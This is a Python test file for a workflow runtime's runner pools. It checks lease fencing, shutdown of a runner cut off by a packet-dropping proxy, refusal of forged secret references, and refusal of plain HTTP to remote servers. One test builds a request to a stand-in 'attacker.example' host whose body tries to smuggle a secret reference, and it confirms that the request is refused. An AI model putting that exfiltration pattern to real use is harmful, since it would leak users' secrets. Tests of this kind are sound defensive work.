"""Runner pools, the review's findings kept as regression tests (on both backends, see
tests/runtime/conftest.py): a worker that lost its run's lease leaves the new owner's
dispatch alone; a runner cut off by a network that drops packets stops its action within
its lease; a secret reference carried by event data is refused; `--server http://` is only
for this machine. (The result too large for HTTPS: tests/runtime/test_dispatch_https.py.)"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from kernel_api import HELPER, ROOT, cli_env, opsdsl
from owned_harness import bare_run

from opsdsl.runtime import dispatch as D
from opsdsl.runtime import lease as L
from opsdsl.runtime import store as S
from opsdsl.runtime.actions.base import ActionRequest
from opsdsl.runtime.pool_runner import claim_rows, renew_lease, runner_url
from opsdsl.runtime.scheduler import render_with
from opsdsl.runtime.secrets import Redactor, SecretError

# ---- 1. a worker whose run lease was taken cannot cancel the new owner's dispatch ------------


@pytest.fixture
def workers(tmp_path: Path):
    """Worker A holding run-1's lease with a claimed dispatch of a non-idempotent step, and
    worker B, another process on the same database."""
    a, b = S.Store(tmp_path / "state"), S.Store(tmp_path / "state")
    L.ensure_schema(a)
    for store in (a, b):
        store.fence = L.Fences()
    with a.transaction():
        a.insert_run(bare_run("run-1"))
    fence = L.claim(a, "run-1", "A", 30)
    assert fence is not None
    request = ActionRequest("run-1", "deploy", "http.request", {"url": "http://x"}, 1, "run-1:deploy", None)
    dispatcher = D.Dispatcher(a, {"runner": "edge", "idempotent": False})
    with fence.current(), a.transaction():
        dispatcher.enqueue(request)
    (claim,) = claim_rows(a, "edge", "runner-1", 1, 30.0)
    yield a, b, fence, dispatcher, request, claim
    a.close()
    b.close()


def _row(store: S.Store) -> tuple:
    return tuple(store.conn.execute("SELECT state, claimant, claim_epoch, error FROM dispatch").fetchone())


def _take_over(a: S.Store, b: S.Store) -> None:
    """A is presumed dead (its run lease lapses); B claims the run and adopts the dispatch."""
    with L.unfenced(), a.transaction():
        a.conn.execute("UPDATE runs SET lease_until = ? WHERE id = 'run-1'", (a.now() - 1,))
    assert L.claim(b, "run-1", "B", 30) is not None
    assert D.Dispatcher(b, {"runner": "edge", "idempotent": False}).adopt("run-1", "deploy", 1)


def test_a_worker_that_lost_its_lease_does_not_withdraw_the_new_owners_dispatch(workers):
    a, b, fence, dispatcher, request, claim = workers

    async def scenario() -> None:
        with fence.current():
            waiting = asyncio.create_task(dispatcher.execute(request, None))
        await asyncio.sleep(0.3)
        _take_over(a, b)
        waiting.cancel()  # as A's heartbeat does once renewing raises LeaseLost
        with contextlib.suppress(asyncio.CancelledError):
            await waiting

    asyncio.run(scenario())
    assert _row(b) == (D.CLAIMED, "runner-1", claim.epoch, None)  # not `lost`: B's step is not in doubt
    assert renew_lease(b, claim.row_id, "runner-1", claim.epoch, 30.0)  # the runner's heartbeat holds


def test_a_worker_that_holds_its_lease_still_withdraws_when_cancelled(workers):
    a, _, fence, dispatcher, request, claim = workers

    async def scenario() -> None:
        with fence.current():
            waiting = asyncio.create_task(dispatcher.execute(request, None))
        await asyncio.sleep(0.3)
        waiting.cancel()  # the step timed out, the run was cancelled
        with contextlib.suppress(asyncio.CancelledError):
            await waiting

    asyncio.run(scenario())
    assert _row(a)[:1] == (D.LOST,)
    assert not renew_lease(a, claim.row_id, "runner-1", claim.epoch, 30.0)  # so the runner stops


def test_a_worker_that_lost_its_lease_does_not_decide_a_lapsed_dispatch(workers):
    """The runner's lease lapses too: A, no longer the run's owner, neither re-queues the row
    nor puts it in doubt (LeaseLost); B, the owner, decides."""
    a, b, fence, dispatcher, request, claim = workers
    _take_over(a, b)
    with L.unfenced(), a.transaction():
        a.conn.execute("UPDATE dispatch SET lease_until = ?", (a.now() - 1,))

    async def scenario() -> None:
        with fence.current():
            await asyncio.wait_for(dispatcher.execute(request, None), 5)

    with pytest.raises(L.LeaseLost):
        asyncio.run(scenario())
    assert _row(b) == (D.CLAIMED, "runner-1", claim.epoch, None)


# ---- 2. a runner cut off by a network that drops packets stops its action in time ------------


class Blackhole:
    """A loopback TCP proxy to `host:port`; once cut, it keeps every socket open and drops
    every byte either way (what a firewall that drops packets does to an open connection,
    except that the kernel still acknowledges them: only the runner's own deadline helps)."""

    def __init__(self, host: str, port: int) -> None:
        self.upstream = (host, port)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.dropping = threading.Event()
        self.sockets: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            server = socket.create_connection(self.upstream)
            self.sockets += [client, server]
            for source, target in ((client, server), (server, client)):
                threading.Thread(target=self._pipe, args=(source, target), daemon=True).start()

    def _pipe(self, source: socket.socket, target: socket.socket) -> None:
        while True:
            try:
                data = source.recv(65536)
            except OSError:
                return
            if not data:
                return
            if not self.dropping.is_set():
                with contextlib.suppress(OSError):
                    target.sendall(data)

    def cut(self) -> None:
        self.dropping.set()

    def close(self) -> None:
        self.listener.close()
        for sock in self.sockets:
            with contextlib.suppress(OSError):
                sock.close()


def test_a_runner_behind_a_dropping_network_stops_its_action_within_its_lease(tmp_path, state_backend):
    if state_backend != "postgresql":
        pytest.skip("a network between the runner and its database: PostgreSQL")
    url = os.environ["OPSDSL_DATABASE"]
    parts = urlsplit(url)
    proxy = Blackhole(parts.hostname or "127.0.0.1", parts.port or 5432)
    proxied = parts._replace(netloc=parts.netloc.replace(f":{parts.port}", f":{proxy.port}")).geturl()
    state, pid_file, log = tmp_path / "state", tmp_path / "pid", tmp_path / "runner.log"
    store = S.Store(state)
    runner = None
    try:
        D.prepare(store)
        argv = [sys.executable, str(HELPER), "sleep", "60", str(pid_file)]
        with store.transaction():
            store.conn.execute(
                "INSERT INTO dispatch (run_id, step_id, attempt, pool, action, inputs, secrets, request,"
                " idempotency_key, idempotent, timeout, state, created_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
                ("r1", "s1", 1, "edge", "shell", json.dumps({"argv": argv}), "{}", "{}", "r1:s1", 0, None, "queued", 0),
            )
        env = {k: v for k, v in cli_env().items() if k != "OPSDSL_DATABASE"}
        args = ["runner", "--pool", "edge", "--state-dir", str(state), "--database", proxied, "--id", "cut-off"]
        with open(log, "w") as output:
            runner = subprocess.Popen(
                [sys.executable, "-m", "opsdsl", *args, "--lease", "1500ms"],
                cwd=ROOT,
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
            )
        deadline = time.monotonic() + 60
        while not (pid_file.exists() and pid_file.read_text()):
            assert runner.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        pid = int(pid_file.read_text())
        time.sleep(1.0)  # a heartbeat or two went through
        proxy.cut()
        cut = time.monotonic()
        while time.monotonic() - cut < 2 * 1.5 + 1:
            try:
                os.kill(pid, 0)
            except ProcessLookupError:
                break
            time.sleep(0.05)
        gone = time.monotonic() - cut
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)
        assert gone <= 2 * 1.5 + 0.5, gone
        assert "cancelling the action" in log.read_text(), log.read_text()
        row = store.conn.execute("SELECT state, claimant, result FROM dispatch").fetchone()
        assert tuple(row) == (D.CLAIMED, "cut-off", None)  # nothing written; the driver decides
    finally:
        if runner is not None and runner.poll() is None:
            runner.kill()
            runner.wait(10)
        proxy.close()
        store.close()


def test_a_runners_database_url_gives_up_within_the_lease():
    made = runner_url("postgresql://u@db:5432/o?sslmode=require&options=-c%20search_path%3Dx", 3.0)
    query = dict(part.split("=", 1) for part in urlsplit(made).query.split("&"))
    assert query["sslmode"] == "require" and query["keepalives"] == "1"
    assert query["tcp_user_timeout"] == "1000" and query["keepalives_idle"] == "1"
    assert "statement_timeout%3D1000" in query["options"] and "search_path" in query["options"]
    assert "tcp_user_timeout=99" in runner_url("postgresql://u@db/o?tcp_user_timeout=99", 30)  # the URL's own wins


# ---- 3. event data cannot forge a secret reference -------------------------------------------


def _render(with_: dict, event: dict, key: bytes = b"k" * 32) -> tuple[dict, D.DeferredSecrets]:
    view = D.DeferredSecrets("20261207-120000-abcdef", "notify", key)
    rendered = render_with("http.request", with_, {"secrets": view, "event": event})
    return rendered, view


def test_a_reference_carried_by_event_data_is_refused():
    """The reviewer's repro: the step reads secrets.X once, in a comparison, and the event
    carries a reference built as the tag used to be (sha256 of the public run and step ids);
    the runner would have put the secret where the event chose. Now refused, unrun."""
    run, step = "20261207-120000-abcdef", "notify"
    old_tag = hashlib.sha256(f"opsdsl-secret\x00{run}\x00{step}".encode()).hexdigest()[:16]
    guesses = [f"opsdsl-secret.X.{old_tag}", f"opsdsl-secret.X.0.{'0' * 24}", "opsdsl-secret.X.0"]
    for forged in guesses:
        with_ = {"url": "https://attacker.example/", "body": "${{ secrets.X != '' ? event.note : 'none' }}"}
        rendered, view = _render(with_, {"note": f"leak {forged}"})
        assert forged in rendered["body"]
        with pytest.raises(SecretError):
            view.check(rendered, Redactor())


def test_references_are_keyed_per_read_and_stable_per_step():
    with_ = {"url": "https://api.example/", "headers": {"A": "${{ secrets.X }}", "B": "x ${{ secrets.X }}"}}
    first, view = _render(with_, {})
    view.check(first, Redactor())
    again, _ = _render(with_, {})
    assert first == again  # an approval's digest of the rendered with: holds
    assert first["headers"]["A"] != first["headers"]["B"][2:]  # each read its own reference
    other, _ = _render(with_, {}, key=b"o" * 32)
    assert other["headers"]["A"] != first["headers"]["A"]  # unknowable without the key


def test_the_reference_key_is_the_state_dirs_own(tmp_path):
    key = D.reference_key(tmp_path)
    assert len(key) == 32 and D.reference_key(tmp_path) == key
    assert stat.S_IMODE((tmp_path / D.KEY_FILE).stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == [D.KEY_FILE]


def test_the_dispatch_row_lists_only_the_references_issued(tmp_path):
    store = S.Store(tmp_path / "state")
    try:
        key = D.reference_key(store.root)
        view = D.DeferredSecrets("run-1", "deploy", key)
        issued = view["X"]
        forged = D.reference_token(b"z" * 32, "run-1", "deploy", "Y", 0)
        request = ActionRequest("run-1", "deploy", "shell", {"argv": [issued, forged]}, 1, "run-1:deploy", None)
        dispatcher = D.Dispatcher(store, {"runner": "edge"})
        with store.transaction():
            dispatcher.enqueue(request)
        (refs,) = store.conn.execute("SELECT secrets FROM dispatch").fetchone()
        assert json.loads(refs) == {"names": ["X"], "tokens": [issued]}
    finally:
        store.close()


# ---- 5. `--server http://` only to this machine ------------------------------------------------


def test_a_runner_refuses_plain_http_to_another_machine(tmp_path):
    from opsdsl.cli.runner import _check_server
    from opsdsl.errors import UsageError

    for url in ("https://opsdsl.example.com", "http://127.0.0.1:8080", "http://[::1]:80", "http://localhost:1"):
        _check_server(url)
    for url in ("http://opsdsl.example.com", "http://10.0.0.5:8080", "ftp://x", "https://"):
        with pytest.raises(UsageError):
            _check_server(url)
    result = opsdsl(
        "runner", "--pool", "edge", "--state-dir", tmp_path / "state", "--server", "http://opsdsl.example.com"
    )
    assert result.code == 2 and "https://" in result.stderr, result.stderr
